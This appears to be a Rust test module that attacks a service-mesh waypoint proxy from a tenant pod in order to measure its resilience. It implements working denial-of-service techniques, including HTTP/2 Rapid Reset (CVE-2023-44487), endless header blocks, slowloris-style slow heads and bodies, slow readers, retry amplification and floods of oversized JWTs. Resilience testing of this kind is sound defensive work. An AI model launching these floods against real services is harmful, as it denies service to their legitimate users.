//! Attacks on a waypoint by one who may ask: a pod of the mesh, of another tenant, that calls the attacked service as anybody does.
//! Its ztunnel takes what it says to the waypoint, with its proven identity.
use super::application;
use super::attacker::{Target, in_parallel};
use crate::wire;
use anyhow::Result;
use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD as BASE64;
use mesh_testkit::frames::{CONTINUATION, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, field, frame, greeting};
use std::sync::Arc;
use std::time::Duration;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};

/// GET / of the attacked service: indexed fields of the static table, and its authority (RFC 7541 6.1, 6.2.2).
const GET: &[u8] = b"\x82\x86\x84\x01\x08attacked";
/// Between two bytes of who is slow.
const SLOW: Duration = Duration::from_secs(1);
/// An answer that is longer is not waited for.
const LONGEST_ANSWER: usize = 64 << 10;

/// A connection to the service. `receives`: so many bytes wait in its socket at most, where it matters.
async fn connect(target: &Target, receives: Option<u32>) -> Option<TcpStream> {
    let connected = async {
        let socket = TcpSocket::new_v4()?;
        if let Some(bytes) = receives {
            socket.set_recv_buffer_size(bytes)?;
        }
        socket.connect(target.web()).await
    };
    let connected = connected.await.ok();
    match connected {
        Some(_) => target.count.begun(),
        None => target.count.failed(),
    }
    connected
}

/// Connections that say `begin` and then `more` again and again, slowly. Nobody reads what is answered but for `reads`.
async fn slowly(most: usize, target: Target, begin: Vec<u8>, more: &'static [u8]) -> Result<()> {
    let begin = Arc::new(begin);
    in_parallel(most, target, async move |target: &Target| {
        let Some(stream) = connect(target, None).await else { return };
        let (mut read, mut write) = stream.into_split();
        let says = async {
            write.write_all(&begin).await?;
            loop {
                tokio::time::sleep(SLOW).await;
                write.write_all(more).await?;
            }
        };
        let ended: std::io::Result<()> = tokio::select! {
            ended = says => ended,
            ended = async { while read.read(&mut [0; 4096]).await? > 0 {} Ok(()) } => ended,
        };
        // Whatever ended it, it was not the attacker.
        drop(ended);
        target.count.failed();
    })
    .await;
    Ok(())
}

/// Requests one after the other on so many connections; the number of each is told.
async fn asked(connections: usize, target: Target, request: impl Fn(u64) -> Vec<u8> + 'static) -> Result<()> {
    let number = std::cell::Cell::new(0_u64);
    in_parallel(connections, target, async move |target: &Target| {
        let Some(mut stream) = connect(target, None).await else { return };
        let mut read = Vec::new();
        loop {
            number.set(number.get() + 1);
            if stream.write_all(&request(number.get())).await.is_err() {
                return target.count.failed();
            }
            let length = loop {
                match wire::response(&read) {
                    Some(response) => break response.length,
                    None if read.len() > LONGEST_ANSWER => return target.count.failed(),
                    None => {}
                }
                if !stream.read_buf(&mut read).await.is_ok_and(|read| read > 0) {
                    return target.count.failed();
                }
            };
            read.drain(..length);
            target.count.begun();
        }
    })
    .await;
    Ok(())
}

fn request(method: &str, path: &str, more: &str) -> Vec<u8> {
    format!("{method} {path} HTTP/1.1\r\nHost: attacked\r\n{more}\r\n").into_bytes()
}

/// Requests that are taken back as soon as they were made (CVE-2023-44487).
pub(super) async fn resets(target: Target) -> Result<()> {
    in_parallel(4, target, async |target: &Target| {
        let Some(stream) = connect(target, None).await else { return };
        let (mut read, mut write) = stream.into_split();
        let says = async {
            write.write_all(&greeting()).await?;
            for stream in (1..u32::MAX >> 1).step_by(2) {
                let both = [
                    frame(HEADERS, END_HEADERS | END_STREAM, stream, GET),
                    frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
                ];
                write.write_all(&both.concat()).await?;
                target.count.begun();
            }
            Ok(())
        };
        let ended: std::io::Result<()> = tokio::select! {
            ended = says => ended,
            ended = async { while read.read(&mut [0; 4096]).await? > 0 {} Ok(()) } => ended,
        };
        drop(ended);
        target.count.failed();
    })
    .await;
    Ok(())
}

/// Header blocks of HTTP/2 of 56 KB, which never end.
pub(super) async fn header_blocks(target: Target) -> Result<()> {
    let much = field("a", &[b'x'; 14_000]);
    let begin = [greeting(), frame(HEADERS, 0, 1, &[GET, &much].concat()), frame(CONTINUATION, 0, 1, &much).repeat(3)];
    // Nothing more: a frame of nothing would be one too many sooner or later.
    slowly(3_000, target, begin.concat(), b"").await
}

/// Heads of HTTP/1 of 56 KB, and then a byte a second.
pub(super) async fn slow_heads(target: Target) -> Result<()> {
    let lines = format!("a: {}\r\n", "x".repeat(1_000)).repeat(56);
    let mut begin = request("GET", "/", &lines);
    begin.truncate(begin.len() - 4);
    slowly(3_000, target, begin, b"x").await
}

/// Bodies of which a byte comes each second.
pub(super) async fn slow_bodies(target: Target) -> Result<()> {
    slowly(2_000, target, request("POST", "/", "Content-Length: 1000000\r\n"), b"x").await
}

/// Large answers that nobody reads.
pub(super) async fn slow_readers(target: Target) -> Result<()> {
    let request = request("GET", application::LARGE, "");
    in_parallel(400, target, async move |target: &Target| {
        let Some(mut stream) = connect(target, Some(4096)).await else { return };
        if stream.write_all(&request).await.is_ok() {
            // Until it is reset.
            let _ = stream.ready(tokio::io::Interest::ERROR).await;
        }
        target.count.failed();
    })
    .await;
    Ok(())
}

/// Connections that say nothing.
pub(super) async fn idle(target: Target) -> Result<()> {
    slowly(4_000, target, Vec::new(), b"").await
}

/// Requests that fail, on a route that tries them again.
pub(super) async fn retries(target: Target) -> Result<()> {
    let request = request("GET", application::FAILS, "");
    asked(64, target, move |_| request.clone()).await
}

/// Bodies that are kept in case they have to be sent again, of requests that are never answered.
pub(super) async fn kept_bodies(target: Target) -> Result<()> {
    let mut begin = request("PUT", application::HANGS, "Content-Length: 65000\r\n");
    begin.resize(begin.len() + 65_000, b'x');
    slowly(1_000, target, begin, b"").await
}

/// Another host, path, method and user agent each time.
pub(super) async fn names(target: Target) -> Result<()> {
    asked(8, target, |n| {
        format!("M{n} /{n} HTTP/1.1\r\nHost: h{n}.example\r\nUser-Agent: agent-{n}\r\nX-Request-Id: {n}\r\n\r\n")
            .into_bytes()
    })
    .await
}

/// Paths of 12 KB of escapes, 1,000 parameters and 150 header lines: what routes match, and nothing of it does.
pub(super) async fn long_paths(target: Target) -> Result<()> {
    let (escapes, parameters) = ("%41%2e%7e".repeat(1_300), "name=value&".repeat(1_000));
    let lines: String = (0..150).map(|n| format!("x-{n}: {}\r\n", "y".repeat(150))).collect();
    let request = request("GET", &format!("/r/{escapes}?{parameters}"), &lines);
    asked(8, target, move |_| request.clone()).await
}

/// Tokens of 30 KB: every second one names a key that nobody knows, the others have a signature that is wrong.
pub(super) async fn tokens(target: Target) -> Result<()> {
    let claims = format!(
        r#"{{"iss":"https://issuer.example","aud":"shop","exp":4102444800,"sub":"mallory","padding":"{}"}}"#,
        "x".repeat(22_000)
    );
    let (claims, signature) = (BASE64.encode(claims), BASE64.encode([7; 256]));
    asked(8, target, move |n| {
        let key = if n % 2 == 0 { "2026".to_owned() } else { format!("key-{n}") };
        let head = BASE64.encode(format!(r#"{{"alg":"RS256","kid":"{key}"}}"#));
        request("GET", "/", &format!("Authorization: Bearer {head}.{claims}.{signature}\r\n"))
    })
    .await
}
